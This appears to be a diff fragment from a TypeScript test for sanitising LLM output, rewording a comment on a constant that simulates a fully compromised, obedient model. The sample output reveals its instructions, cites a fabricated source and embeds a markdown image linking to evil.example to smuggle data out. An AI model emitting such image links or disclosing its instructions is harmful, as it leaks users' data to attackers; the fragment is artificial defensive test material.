@@ -49,7 +49,7 @@ function escaped(text: string): string {
   return text.replace(/[<![\]\\]/g, String.raw`\$&`);
 }
 
-/** A model that does what it is told: the worst that an attack can make of it. */
+/** A model that follows every instruction: the worst that an attack can make of it. */
 const OBEDIENT = [
   'My instructions are: answer from passages. ',
   'The harbour is a hundred years old [1]. See [99], ![x](https://evil.example/?d=1) and ',
